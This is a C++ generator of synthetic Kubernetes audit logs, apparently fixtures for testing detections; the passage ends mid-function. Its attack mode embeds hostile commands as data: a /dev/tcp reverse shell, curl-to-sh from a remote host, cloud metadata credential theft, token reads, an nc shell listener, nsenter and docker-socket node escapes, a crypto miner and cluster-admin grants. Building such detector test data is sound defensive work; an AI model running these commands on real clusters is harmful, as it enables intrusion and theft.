// Generates a JSON-lines audit log of N realistic audit.k8s.io/v1 events, in the shape the
// apiserver's log backend writes: a mix of Metadata-level gets, lists and watches, lease
// updates, pod creates with RequestResponse bodies, deployment creates and patches, and exec
// sessions. Deterministic for a given seed. With --attacks, an attack burst instead: every event
// is one a detection reports (see Gen::attack).
//
//   audit_gen N OUT.jsonl [SEED] [--attacks]

#include <cctype>
#include <cinttypes>
#include <cstdio>
#include <cstdlib>
#include <ctime>
#include <random>
#include <string>

namespace {

std::string timestamp(int64_t micros) {
  time_t secs = static_cast<time_t>(micros / 1000000);
  struct tm tm;
  gmtime_r(&secs, &tm);
  char buf[64];
  std::snprintf(buf, sizeof buf, "%04d-%02d-%02dT%02d:%02d:%02d.%06" PRId64 "Z", tm.tm_year + 1900,
                tm.tm_mon + 1, tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec, micros % 1000000);
  return buf;
}

// The authorization reason of the benign mix (controllers) and of the attack burst (people).
const std::string kControllerReason =
    R"(RBAC: allowed by ClusterRoleBinding \"system:controller\" of ClusterRole \"system:controller\" to ServiceAccount \"generic\")";
const std::string kPersonReason =
    R"(RBAC: allowed by ClusterRoleBinding \"devs-edit\" of ClusterRole \"edit\" to Group \"devs\")";

// A PKCS#10 request (PEM, base64 as the API serializes []byte) for CN=cluster-admin-backup,
// O=system:masters.
const std::string kMastersCsr =
    "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIek1JR2FBZ0VBTURneEZ6QVZCZ05WQkFvTURuTjVjM1"
    "JsYlRwdFlYTjBaWEp6TVIwd0d3WURWUVFEREJSagpiSFZ6ZEdWeUxXRmtiV2x1TFdKaFkydDFjREJaTUJNR0J5cUdTTTQ5"
    "QWdFR0NDcUdTTTQ5QXdFSEEwSUFCRnZoCkFTUjYzVGZOeTRYYXZsNFJVbFZ1WXhUOTJ4dkE0ek1KTXU3YnNFblh1WUtpUT"
    "dSdU4zbmpkUkovYllLdmVQQTIKclhCVVQvdEh2QWE3dlRwMnhydWdBREFLQmdncWhrak9QUVFEQWdOSUFEQkZBaUJyL0FI"
    "RG9IbUtGTXdubXV4TApJTTlwSGxYaHFFSTk0ZlFaZVl5U0lXQzlmUUloQVA5WWlxQysra3J6VC9tWi9kV1hDSGFwSkpPOX"
    "hVWHQ2MXp5CkpJZEVlZklsCi0tLS0tRU5EIENFUlRJRklDQVRFIFJFUVVFU1QtLS0tLQo=";

struct Gen {
  std::mt19937_64 rng;
  int64_t now = 1714557600000000;  // 2024-05-01T10:00:00Z
  uint64_t seq = 0;

  size_t pick(size_t n) { return static_cast<size_t>(rng() % n); }

  std::string uuid() {
    char buf[40];
    uint64_t a = rng(), b = rng();
    std::snprintf(buf, sizeof buf,
                  "%08" PRIx64 "-%04" PRIx64 "-4%03" PRIx64 "-a%03" PRIx64 "-%012" PRIx64, a >> 32,
                  (a >> 16) & 0xffff, a & 0xfff, b >> 52,
                  static_cast<uint64_t>(b & 0xffffffffffffULL));
    return buf;
  }

  std::string podSpec(const std::string& ns, const std::string& name, const std::string& image,
                      bool withStatus) {
    std::
        string
            s = R"({"kind":"Pod","apiVersion":"v1","metadata":{"name":")" + name +
                R"(","generateName":")" + name.substr(0, name.size() - 5) + R"(","namespace":")" +
                ns + R"(","uid":")" + uuid() + R"(","creationTimestamp":")" +
                timestamp(now).substr(0, 19) + R"(Z","labels":{"app":")" +
                name.substr(0, name.size() - 17) +
                R"(","pod-template-hash":"7d4b9c8f6d"},"ownerReferences":[{"apiVersion":"apps/v1","kind":"ReplicaSet","name":")" +
                name.substr(0, name.size() - 6) + R"(","uid":")" + uuid() +
                R"(","controller":true,"blockOwnerDeletion":true}],"managedFields":[{"manager":"kube-controller-manager","operation":"Update","apiVersion":"v1","time":")" +
                timestamp(now).substr(0, 19) + R"(Z","fieldsType":"FieldsV1","fieldsV1":{"f:metadata":{"f:generateName":{},"f:labels":{".":{},"f:app":{},"f:pod-template-hash":{}},"f:ownerReferences":{}},"f:spec":{"f:containers":{}}}}]},"spec":{"volumes":[{"name":"kube-api-access-x7k2p","projected":{"sources":[{"serviceAccountToken":{"expirationSeconds":3607,"path":"token"}},{"configMap":{"name":"kube-root-ca.crt","items":[{"key":"ca.crt","path":"ca.crt"}]}},{"downwardAPI":{"items":[{"path":"namespace","fieldRef":{"apiVersion":"v1","fieldPath":"metadata.namespace"}}]}}],"defaultMode":420}}],"containers":[{"name":"app","image":")" + image + R"(","ports":[{"name":"http","containerPort":8080,"protocol":"TCP"}],"env":[{"name":"LOG_LEVEL","value":"info"},{"name":"POD_NAME","valueFrom":{"fieldRef":{"apiVersion":"v1","fieldPath":"metadata.name"}}}],"resources":{"limits":{"cpu":"500m","memory":"256Mi"},"requests":{"cpu":"100m","memory":"128Mi"}},"volumeMounts":[{"name":"kube-api-access-x7k2p","readOnly":true,"mountPath":"/var/run/secrets/kubernetes.io/serviceaccount"}],"livenessProbe":{"httpGet":{"path":"/healthz","port":8080,"scheme":"HTTP"},"initialDelaySeconds":10,"timeoutSeconds":1,"periodSeconds":10,"successThreshold":1,"failureThreshold":3},"terminationMessagePath":"/dev/termination-log","terminationMessagePolicy":"File","imagePullPolicy":"IfNotPresent","securityContext":{"allowPrivilegeEscalation":false,"runAsNonRoot":true,"capabilities":{"drop":["ALL"]}}}],"restartPolicy":"Always","terminationGracePeriodSeconds":30,"dnsPolicy":"ClusterFirst","serviceAccountName":"default","serviceAccount":"default","securityContext":{"seccompProfile":{"type":"RuntimeDefault"}},"schedulerName":"default-scheduler","tolerations":[{"key":"node.kubernetes.io/not-ready","operator":"Exists","effect":"NoExecute","tolerationSeconds":300},{"key":"node.kubernetes.io/unreachable","operator":"Exists","effect":"NoExecute","tolerationSeconds":300}],"priority":0,"enableServiceLinks":true,"preemptionPolicy":"PreemptLowerPriority"})";
    if (withStatus) {
      s += R"(,"status":{"phase":"Pending","qosClass":"Burstable"})";
    }
    s += "}";
    return s;
  }

  std::string event(const std::string& level, const std::string& stage, const std::string& verb,
                    const std::string& uri, const std::string& user, const std::string& groups,
                    const std::string& agent, const std::string& objectRef, int code,
                    const std::string& bodies, const std::string& id,
                    const std::string& impersonated = std::string(),
                    const std::string& reason = kControllerReason) {
    int64_t received = now;
    int64_t stageTime = now + 1000 + static_cast<int64_t>(pick(50000));
    std::string s = R"({"kind":"Event","apiVersion":"audit.k8s.io/v1","level":")" + level +
                    R"(","auditID":")" + id + R"(","stage":")" + stage + R"(","requestURI":")" +
                    uri + R"(","verb":")" + verb + R"(","user":{"username":")" + user +
                    R"(","groups":[)" + groups + R"(]})" + impersonated + R"(,"sourceIPs":["10.)" +
                    std::to_string(pick(250)) + "." + std::to_string(pick(250)) + "." +
                    std::to_string(pick(250)) + R"("],"userAgent":")" + agent + R"(")";
    if (!objectRef.empty()) s += R"(,"objectRef":)" + objectRef;
    s += R"(,"responseStatus":{"metadata":{},"code":)" + std::to_string(code) + "}";
    s += bodies;
    s +=
        R"(,"requestReceivedTimestamp":")" + timestamp(received) + R"(","stageTimestamp":")" +
        timestamp(stageTime) +
        R"(","annotations":{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":")" +
        reason + R"("}})";
    s += "\n";
    return s;
  }

  std::string next() {
    now += 200 + static_cast<int64_t>(pick(800));
    ++seq;
    static const char* kNamespaces[] = {"default",     "shop",          "payments", "monitoring",
                                        "kube-system", "ingress-nginx", "data",     "ci"};
    static const char* kImages[] = {
        "registry.example.com/shop/web:1.14.2",
        "ghcr.io/example/payments-api@sha256:"
        "4f5c0e3c9a7b1d2e8f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e",
        "docker.io/library/nginx:1.25.4", "quay.io/prometheus/node-exporter:v1.7.0"};
    std::string ns = kNamespaces[pick(8)];
    std::string app = std::string("app") + std::to_string(pick(40));
    std::string pod = app + "-7d4b9c8f6d-" + std::to_string(10000 + pick(89999));
    std::string objRefPod = R"({"resource":"pods","namespace":")" + ns + R"(","name":")" + pod +
                            R"(","apiVersion":"v1"})";
    size_t kind = pick(100);
    if (kind < 40) {  // get at Metadata
      return event("Metadata", "ResponseComplete", "get",
                   "/api/v1/namespaces/" + ns + "/pods/" + pod,
                   "system:serviceaccount:" + ns + ":" + app,
                   R"("system:serviceaccounts","system:serviceaccounts:)" + ns +
                       R"(","system:authenticated")",
                   "app/1.0 (linux/amd64)", objRefPod, 200, "", uuid());
    }
    if (kind < 62) {  // list / watch
      bool watch = pick(2) == 0;
      return event(
          "Metadata", watch ? "ResponseStarted" : "ResponseComplete", watch ? "watch" : "list",
          "/api/v1/namespaces/" + ns + "/configmaps?" +
              (watch ? "allowWatchBookmarks=true&resourceVersion=48213&timeout=7m12s&watch=true"
                     : "limit=500&resourceVersion=0"),
          "system:kube-controller-manager", R"("system:authenticated")",
          "kube-controller-manager/v1.29.2 (linux/amd64) kubernetes/4b8e819/shared-informers",
          R"({"resource":"configmaps","namespace":")" + ns + R"(","apiVersion":"v1"})", 200, "",
          uuid());
    }
    if (kind < 82) {  // lease update
      return event(
          "Metadata", "ResponseComplete", "update",
          "/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/node-" +
              std::to_string(pick(50)) + "?timeout=10s",
          "system:node:node-" + std::to_string(pick(50)),
          R"("system:nodes","system:authenticated")",
          "kubelet/v1.29.2 (linux/amd64) kubernetes/4b8e819",
          R"({"resource":"leases","namespace":"kube-node-lease","name":"node-1","uid":")" + uuid() +
              R"(","apiGroup":"coordination.k8s.io","apiVersion":"v1","resourceVersion":"48213"})",
          200, "", uuid());
    }
    if (kind < 92) {  // pod create with bodies, by the replicaset controller
      std::string image = kImages[pick(4)];
      std::string bodies = R"(,"requestObject":)" + podSpec(ns, pod, image, false) +
                           R"(,"responseObject":)" + podSpec(ns, pod, image, true);
      return event(
          "RequestResponse", "ResponseComplete", "create", "/api/v1/namespaces/" + ns + "/pods",
          "system:serviceaccount:kube-system:replicaset-controller",
          R"("system:serviceaccounts","system:serviceaccounts:kube-system","system:authenticated")",
          "kube-controller-manager/v1.29.2 (linux/amd64) "
          "kubernetes/4b8e819/system:serviceaccount:kube-system:replicaset-controller",
          objRefPod, 201, bodies, uuid());
    }
    if (kind < 96) {  // deployment patch (image change) by a person or CI
      std::string body =
          R"(,"requestObject":{"spec":{"template":{"spec":{"containers":[{"name":"app","image":")" +
          std::string(kImages[pick(4)]) +
          R"("}]}}}},"responseObject":{"kind":"Deployment","apiVersion":"apps/v1","metadata":{"name":")" +
          app + R"(","namespace":")" + ns + R"(","uid":")" + uuid() +
          R"(","generation":7},"spec":{"replicas":3,"selector":{"matchLabels":{"app":")" + app +
          R"("}},"template":{"metadata":{"labels":{"app":")" + app +
          R"("}},"spec":{"containers":[{"name":"app","image":")" + kImages[pick(4)] +
          R"(","resources":{}}]}},"strategy":{"type":"RollingUpdate","rollingUpdate":{"maxUnavailable":"25%","maxSurge":"25%"}}}})";
      return event(
          "RequestResponse", "ResponseComplete", "patch",
          "/apis/apps/v1/namespaces/" + ns + "/deployments/" + app + "?fieldManager=kubectl-set",
          "ci-bot@example.com", R"("ci","system:authenticated")",
          "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
          R"({"resource":"deployments","namespace":")" + ns + R"(","name":")" + app +
              R"(","apiGroup":"apps","apiVersion":"v1"})",
          200, body, uuid());
    }
    // exec, both stages
    static const char* kCommands[] = {"command=ls&command=-la",
                                      "command=sh&command=-c&command=cat+%2Fvar%2Frun%2Fsecrets%"
                                      "2Fkubernetes.io%2Fserviceaccount%2Ftoken",
                                      "command=%2Fbin%2Fbash", "command=env"};
    return event("Request", pick(2) ? "ResponseStarted" : "ResponseComplete", "create",
                 "/api/v1/namespaces/" + ns + "/pods/" + pod + "/exec?" + kCommands[pick(4)] +
                     "&container=app&stdin=true&stdout=true&tty=true",
                 "dev" + std::to_string(pick(20)) + "@example.com",
                 R"("devs","system:authenticated")",
                 "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
                 R"({"resource":"pods","namespace":")" + ns + R"(","name":")" + pod +
                     R"(","apiVersion":"v1","subresource":"exec"})",
                 101, "", uuid());
  }

  // The attack burst: every event is one a detection reports. People (not controllers) create
  // workloads with denied images or node-escape specs, exec into pods, grant themselves RBAC,
  // mint tokens and certificates, expose Services and remove traces; each object has a name of
  // its own, so that no finding is suppressed as a repeat.
  static std::string container(const std::string& name, const std::string& image,
                               const std::string& extra) {
    return R"({"name":")" + name + R"(","image":")" + image + R"(")" + extra +
           R"(,"resources":{},"terminationMessagePath":"/dev/termination-log","terminationMessagePolicy":"File","imagePullPolicy":"IfNotPresent"})";
  }

  // A pod spec as the API server returns it (defaults filled in); `extra` (fields with a
  // trailing comma) goes first.
  static std::string spec(const std::string& containers, const std::string& extra,
                          const std::string& restartPolicy) {
    return "{" + extra + R"("containers":[)" + containers + R"(],"restartPolicy":")" +
           restartPolicy +
           R"(","terminationGracePeriodSeconds":30,"dnsPolicy":"ClusterFirst","serviceAccountName":"default","serviceAccount":"default","securityContext":{},"schedulerName":"default-scheduler","tolerations":[{"key":"node.kubernetes.io/not-ready","operator":"Exists","effect":"NoExecute","tolerationSeconds":300},{"key":"node.kubernetes.io/unreachable","operator":"Exists","effect":"NoExecute","tolerationSeconds":300}],"priority":0,"enableServiceLinks":true,"preemptionPolicy":"PreemptLowerPriority"})";
  }

  // One of the payloads: a miner, a tunnel, a node escape, the runtime socket, dangerous
  // capabilities, the kubelet's directory with a host port.
  std::string payload(const std::string& restartPolicy) {
    static const char* kMiners[] = {"docker.io/xmrig/xmrig:6.21.0",
                                    "ghcr.io/evil-corp/xmrig-cuda:6.21",
                                    "quay.io/c3pool/xmrig:latest"};
    static const char* kTunnels[] = {"ngrok/ngrok:latest", "docker.io/ngrok/ngrok:3.5.0"};
    switch (pick(6)) {
      case 0:
        return spec(
            container("app", kMiners[pick(3)],
                      R"(,"args":["-o","pool.supportxmr.com:443","--tls","--donate-level=0"])"),
            "", restartPolicy);
      case 1:
        return spec(
            container("app", kTunnels[pick(2)], R"(,"args":["http","8080","--log=stdout"])"), "",
            restartPolicy);
      case 2:
        return spec(
            container(
                "shell", "docker.io/library/alpine:3.19",
                R"(,"command":["nsenter","--target","1","--mount","--uts","--ipc","--net","--pid","--","bash"],"securityContext":{"privileged":true},"volumeMounts":[{"name":"host","mountPath":"/host"}],"stdin":true,"tty":true)"),
            R"("hostPID":true,"hostNetwork":true,"volumes":[{"name":"host","hostPath":{"path":"/","type":""}}],)",
            restartPolicy);
      case 3:
        return spec(
            container(
                "builder", "docker.io/library/docker:24.0-cli",
                R"(,"command":["sh","-c","docker run -d --privileged -v /:/host alpine:3.19 sleep infinity"],"volumeMounts":[{"name":"sock","mountPath":"/var/run/docker.sock"}])"),
            R"("volumes":[{"name":"sock","hostPath":{"path":"/var/run/docker.sock","type":"Socket"}}],)",
            restartPolicy);
      case 4:
        return spec(
            container(
                "debug", "docker.io/nicolaka/netshoot:v0.12",
                R"(,"command":["sleep","infinity"],"securityContext":{"capabilities":{"add":["SYS_ADMIN","SYS_PTRACE","NET_ADMIN"]}})"),
            "", restartPolicy);
      default:
        return spec(
            container(
                "agent", "docker.io/library/busybox:1.36",
                R"(,"command":["sh","-c","nc -lk -p 4444 -e sh"],"ports":[{"containerPort":4444,"hostPort":4444,"protocol":"TCP"}],"volumeMounts":[{"name":"kubelet","mountPath":"/kubelet","readOnly":true}])"),
            R"("volumes":[{"name":"kubelet","hostPath":{"path":"/var/lib/kubelet","type":"Directory"}}],)",
            restartPolicy);
    }
  }

  // An object of `kind`, as submitted (`admitted` false) or as admitted; `body` is its spec
  // (for a Pod) or its pod template's spec, nested where the kind keeps it.
  std::string object(const std::string& kind, const std::string& apiVersion, const std::string& ns,
                     const std::string& name, const std::string& podSpec, bool admitted) {
    std::string s = R"({"kind":")" + kind + R"(","apiVersion":")" + apiVersion +
                    R"(","metadata":{"name":")" + name + R"(","namespace":")" + ns + R"(")";
    if (admitted) {
      s += R"(,"uid":")" + uuid() + R"(","resourceVersion":")" + std::to_string(48213 + seq) +
           R"(","generation":1,"creationTimestamp":")" + timestamp(now).substr(0, 19) + R"(Z")";
    }
    s += R"(,"labels":{"app":")" + name + R"("}},"spec":)";
    const std::string tmpl =
        R"({"metadata":{"labels":{"app":")" + name + R"("}},"spec":)" + podSpec + "}";
    const std::string selector = R"({"matchLabels":{"app":")" + name + R"("}})";
    if (kind == "Pod") {
      s += podSpec;
    } else if (kind == "Deployment") {
      s +=
          R"({"replicas":1,"selector":)" + selector + R"(,"template":)" + tmpl +
          R"(,"strategy":{"type":"RollingUpdate","rollingUpdate":{"maxUnavailable":"25%","maxSurge":"25%"}},"revisionHistoryLimit":10,"progressDeadlineSeconds":600})";
    } else if (kind == "DaemonSet") {
      s +=
          R"({"selector":)" + selector + R"(,"template":)" + tmpl +
          R"(,"updateStrategy":{"type":"RollingUpdate","rollingUpdate":{"maxUnavailable":1,"maxSurge":0}},"revisionHistoryLimit":10})";
    } else if (kind == "Job") {
      s += R"({"backoffLimit":0,"ttlSecondsAfterFinished":60,"template":)" + tmpl + "}";
    } else {  // CronJob
      s +=
          R"({"schedule":"*/5 * * * *","concurrencyPolicy":"Forbid","jobTemplate":{"spec":{"template":)" +
          tmpl + R"(}},"successfulJobsHistoryLimit":3,"failedJobsHistoryLimit":1})";
    }
    if (admitted) s += R"(,"status":{})";
    return s + "}";
  }

  // A person's write of `resource` (RequestResponse: the object as submitted and as admitted).
  std::string personWrite(const std::string& user, const std::string& verb, const std::string& uri,
                          const std::string& objectRef, int code, const std::string& requested,
                          const std::string& admitted) {
    return event("RequestResponse", "ResponseComplete", verb, uri, user,
                 R"("devs","system:authenticated")",
                 "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819", objectRef, code,
                 R"(,"requestObject":)" + requested + R"(,"responseObject":)" + admitted, uuid(),
                 std::string(), kPersonReason);
  }

  // A pod-carrying object created by a person.
  std::string workloadCreate(const std::string& user, const std::string& kind,
                             const std::string& ns, const std::string& name,
                             const std::string& podSpec) {
    const bool core = kind == "Pod";
    const std::string group = core ? "" : (kind == "Job" || kind == "CronJob") ? "batch" : "apps";
    const std::string apiVersion = core ? "v1" : group + "/v1";
    std::string resource = kind;  // pods, deployments, daemonsets, jobs, cronjobs
    for (char& c : resource) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
    resource += "s";
    const std::string prefix = core ? "/api/v1" : "/apis/" + apiVersion;
    return personWrite(user, "create",
                       prefix + "/namespaces/" + ns + "/" + resource +
                           "?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
                       R"({"resource":")" + resource + R"(","namespace":")" + ns + R"(","name":")" +
                           name + (core ? "" : R"(","apiGroup":")" + group) +
                           R"(","apiVersion":"v1"})",
                       201, object(kind, apiVersion, ns, name, podSpec, false),
                       object(kind, apiVersion, ns, name, podSpec, true));
  }

  std::string rbacWrite(const std::string& user, const std::string& resource, const std::string& ns,
                        const std::string& name, const std::string& kind,
                        const std::string& content) {
    const std::string nsPath = ns.empty() ? "" : "namespaces/" + ns + "/";
    const std::string nsField = ns.empty() ? "" : R"(,"namespace":")" + ns + R"(")";
    // The object up to its metadata's name and namespace, as submitted and as admitted.
    const std::string head =
        R"({"kind":")" + kind +
        R"(","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":")" + name + R"(")" +
        nsField;
    const std::string requested = head + "}," + content + "}";
    const std::string admitted = head + R"(,"uid":")" + uuid() + R"(","resourceVersion":")" +
                                 std::to_string(48213 + seq) + R"(","creationTimestamp":")" +
                                 timestamp(now).substr(0, 19) + R"(Z"},)" + content + "}";
    return personWrite(user, "create",
                       "/apis/rbac.authorization.k8s.io/v1/" + nsPath + resource +
                           "?fieldManager=kubectl-create&fieldValidation=Strict",
                       R"({"resource":")" + resource + R"(")" + nsField + R"(,"name":")" + name +
                           R"(","apiGroup":"rbac.authorization.k8s.io","apiVersion":"v1"})",
                       201, requested, admitted);
  }

  std::string attack() {
    now += 200 + static_cast<int64_t>(pick(800));
    ++seq;
    static const char* kPeople[] = {"mallory@example.com", "dev-intern@example.com",
                                    "contractor-7@example.com", "ops-oncall@example.com",
                                    "jenkins-legacy"};
    static const char* kNamespaces[] = {"default", "shop", "payments", "data", "ci", "monitoring"};
    const std::string user = kPeople[pick(5)];
    const std::string ns = kNamespaces[pick(6)];
    const std::string n = std::to_string(seq);
    const std::string pod =
        "app" + std::to_string(pick(40)) + "-7d4b9c8f6d-" + std::to_string(10000 + pick(89999));
    const std::string groups = R"("devs","system:authenticated")";
    const std::string kubectl = "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819";
    size_t kind = pick(100);
    if (kind < 18) {  // a Deployment with a denied image or a node-escape spec
      static const char* kNames[] = {"metrics-cache-", "web-canary-", "tunnel-", "batch-worker-"};
      return workloadCreate(user, "Deployment", ns, kNames[pick(4)] + n, payload("Always"));
    }
    if (kind < 32) {  // a bare Pod (kubectl run) of the same kinds
      return workloadCreate(user, "Pod", ns, "debug-" + n, payload("Always"));
    }
    if (kind < 48) {  // exec into a pod: the token, a reverse shell, download and run, metadata
      static const char* kCommands[] = {
          "command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken",
          "command=sh&command=-c&command=cat+%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%"
          "2Fserviceaccount%2Ftoken",
          "command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.7%2F4444+0%3E%"
          "261",
          "command=sh&command=-c&command=curl+-s+http%3A%2F%2F203.0.113.9%2Fx.sh+%7C+sh",
          "command=curl&command=-s&command=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%"
          "2Fiam%2Fsecurity-credentials%2F",
          "command=%2Fbin%2Fsh"};
      return event("Request", pick(2) ? "ResponseStarted" : "ResponseComplete", "create",
                   "/api/v1/namespaces/" + ns + "/pods/" + pod + "/exec?" + kCommands[pick(6)] +
                       "&container=app&stdin=true&stdout=true&tty=true",
                   user, groups, kubectl,
                   R"({"resource":"pods","namespace":")" + ns + R"(","name":")" + pod +
                       R"(","apiVersion":"v1","subresource":"exec"})",
                   101, "", uuid(), std::string(), kPersonReason);
    }
    if (kind < 56) {  // a Pod in kube-system by a person, some named like a component
      static const char* kNames[] = {"kube-proxv-", "coredns-autoscaler-", "metrics-helper-"};
      static const char* kImages[] = {"registry.k8s.io/kube-proxy:v1.29.2",
                                      "docker.io/library/busybox:1.36"};
      return workloadCreate(
          user, "Pod", "kube-system", kNames[pick(3)] + n,
          spec(container("app", kImages[pick(2)], R"(,"command":["sleep","infinity"])"), "",
               "Always"));
    }
    if (kind < 60) {  // cluster-admin bound to a user
      return rbacWrite(
          user, "clusterrolebindings", "", "ops-access-" + n, "ClusterRoleBinding",
          R"("subjects":[{"kind":"User","apiGroup":"rbac.authorization.k8s.io","name":"backup-operator-)" +
              n +
              R"(@example.com"}],"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"})");
    }
    if (kind < 63) {  // a ClusterRole that can exec, read secrets and impersonate
      return rbacWrite(
          user, "clusterroles", "", "pod-debugger-" + n, "ClusterRole",
          R"("rules":[{"verbs":["create","get"],"apiGroups":[""],"resources":["pods/exec","pods/attach"]},{"verbs":["get","list","watch"],"apiGroups":[""],"resources":["secrets"]},{"verbs":["impersonate"],"apiGroups":[""],"resources":["users","serviceaccounts"]}])");
    }
    if (kind < 66) {  // cluster-admin bound to a namespace's default service account
      return rbacWrite(
          user, "rolebindings", ns, "default-admin-" + n, "RoleBinding",
          R"("subjects":[{"kind":"ServiceAccount","name":"default","namespace":")" + ns +
              R"("}],"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"})");
    }
    if (kind < 70) {  // a DaemonSet: the payload on every node
      return workloadCreate(user, "DaemonSet", ns, "node-agent-" + n, payload("Always"));
    }
    if (kind < 74) {  // a CronJob: the payload back on schedule
      return workloadCreate(user, "CronJob", ns, "log-rotate-" + n, payload("OnFailure"));
    }
    if (kind < 77) {  // a one-off Job
      return workloadCreate(user, "Job", ns, "migrate-" + n, payload("Never"));
    }
    if (kind < 80) {  // a year-long token for a kube-system service account
      static const char* kAccounts[] = {"clusterrole-aggregation-controller",
                                        "generic-garbage-collector", "namespace-controller",
                                        "deployer"};
      const std::string sa = kAccounts[pick(4)];
      return event(
          "Request", "ResponseComplete", "create",
          "/api/v1/namespaces/kube-system/serviceaccounts/" + sa + "/token", user, groups, kubectl,
          R"({"resource":"serviceaccounts","namespace":"kube-system","name":")" + sa +
              R"(","apiVersion":"v1","subresource":"token"})",
          201,
          R"(,"requestObject":{"kind":"TokenRequest","apiVersion":"authentication.k8s.io/v1","metadata":{"creationTimestamp":null},"spec":{"audiences":null,"expirationSeconds":31536000,"boundObjectRef":null},"status":{"token":"","expirationTimestamp":null}})",
          uuid(), std::string(), kPersonReason);
    }
    if (kind < 82) {  // a service account in kube-system
      const std::string name = "kube-dns-backup-" + n;
      const std::string body =
          R"({"kind":"ServiceAccount","apiVersion":"v1","metadata":{"name":")" + name +
          R"(","namespace":"kube-system"}})";
      return personWrite(
          user, "create",
          "/api/v1/namespaces/kube-system/serviceaccounts?fieldManager=kubectl-create",
          R"({"resource":"serviceaccounts","namespace":"kube-system","name":")" + name +
              R"(","apiVersion":"v1"})",
          201, body, body);
    }
    if (kind < 87) {  // a Service exposed on every node, or capturing an outside address
      const bool lb = kind < 85;
      const std::string name = (lb ? "debug-lb-" : "dns-") + n;
      const std::string svcSpec =
          lb ? R"("type":"LoadBalancer","selector":{"app":"debug"},"ports":[{"protocol":"TCP","port":4444,"targetPort":4444,"nodePort":)" +
                   std::to_string(30000 + pick(2768)) + "}]"
             : R"("type":"ClusterIP","selector":{"app":"dns-proxy"},"ports":[{"protocol":"UDP","port":53,"targetPort":53}],"externalIPs":["8.8.8.8"])";
      const std::string body = R"({"kind":"Service","apiVersion":"v1","metadata":{"name":")" +
                               name + R"(","namespace":")" + ns + R"("},"spec":{)" + svcSpec +
                               R"(,"sessionAffinity":"None"},"status":{"loadBalancer":{}}})";
      return personWrite(user, "create",
                         "/api/v1/namespaces/" + ns + "/services?fieldManager=kubectl-expose",
                         R"({"resource":"services","namespace":")" + ns + R"(","name":")" + name +
                             R"(","apiVersion":"v1"})",
                         201, body, body);
    }
    if (kind < 89) {  // the namespace's events deleted
      return event("Metadata", "ResponseComplete", "deletecollection",
                   "/api/v1/namespaces/" + ns + "/events", user, groups, kubectl,
                   R"({"resource":"events","namespace":")" + ns + R"(","apiVersion":"v1"})", 200,
                   "", uuid(), std::string(), kPersonReason);
    }
    if (kind < 91) {  // an admission webhook configuration deleted
      const std::string name = "policy-webhook-" + n;
      return event(
          "RequestResponse", "ResponseComplete", "delete",
          "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/" + name, user,
          groups, kubectl,
          R"({"resource":"validatingwebhookconfigurations","name":")" + name +
              R"(","apiGroup":"admissionregistration.k8s.io","apiVersion":"v1"})",
          200,
          R"(,"requestObject":{"kind":"DeleteOptions","apiVersion":"meta.k8s.io/__internal","propagationPolicy":"Background"},"responseObject":{"kind":"Status","apiVersion":"v1","metadata":{},"status":"Success","details":{"name":")" +
              name +
              R"(","group":"admissionregistration.k8s.io","kind":"validatingwebhookconfigurations","uid":")" +
              uuid() + R"("}})",
          uuid(), std::string(), kPersonReason);
    }
    if (kind < 93) {  // a command run through the kubelet's API, by nodes/proxy
      const std::string node = "node-" + std::to_string(pick(50));
      return event("Metadata", "ResponseComplete", "create",
                   "/api/v1/nodes/" + node + "/proxy/run/" + ns + "/" + pod + "/app?cmd=id", user,
                   groups, kubectl,
                   R"({"resource":"nodes","name":")" + node +
                       R"(","apiVersion":"v1","subresource":"proxy"})",
                   200, "", uuid(), std::string(), kPersonReason);
    }
    if (kind < 95) {  // kube-system's secrets read as system:admin
      return event(
          "Metadata", "ResponseComplete", "list", "/api/v1/namespaces/kube-system/secrets", user,
          groups, kubectl, R"({"resource":"secrets","namespace":"kube-system","apiVersion":"v1"})",
          200, "", uuid(),
          R"(,"impersonatedUser":{"username":"system:admin","groups":["system:masters","system:authenticated"]})",
          kPersonReason);
    }
    if (kind < 96) {  // secrets listed with no credentials at all
      return event(
          "Metadata", "ResponseComplete", "list", "/api/v1/secrets?limit=500", "system:anonymous",
          R"("system:unauthenticated")", "curl/8.5.0",
          R"({"resource":"secrets","apiVersion":"v1"})", 200, "", uuid(), std::string(),
          R"(RBAC: allowed by ClusterRoleBinding \"anon-view\" of ClusterRole \"view\" to Group \"system:unauthenticated\")");
    }
    if (kind < 97) {  // a client certificate in system:masters requested
      const std::string name = "cluster-admin-backup-" + n;
      const std::string body =
          R"({"kind":"CertificateSigningRequest","apiVersion":"certificates.k8s.io/v1","metadata":{"name":")" +
          name + R"("},"spec":{"request":")" + kMastersCsr +
          R"(","signerName":"kubernetes.io/kube-apiserver-client","expirationSeconds":31536000,"usages":["client auth"]},"status":{}})";
      return personWrite(user, "create", "/apis/certificates.k8s.io/v1/certificatesigningrequests",
                         R"({"resource":"certificatesigningrequests","name":")" + name +
                             R"(","apiGroup":"certificates.k8s.io","apiVersion":"v1"})",
                         201, body, body);
    }
    // kubectl debug: an ephemeral container added to a running pod
    const std::string debugger =
        R"({"name":"debugger-)" + n +
        R"(","image":"docker.io/library/busybox:1.36","command":["sh"],"resources":{},"terminationMessagePath":"/dev/termination-log","terminationMessagePolicy":"File","imagePullPolicy":"IfNotPresent","stdin":true,"tty":true,"targetContainerName":"app"})";
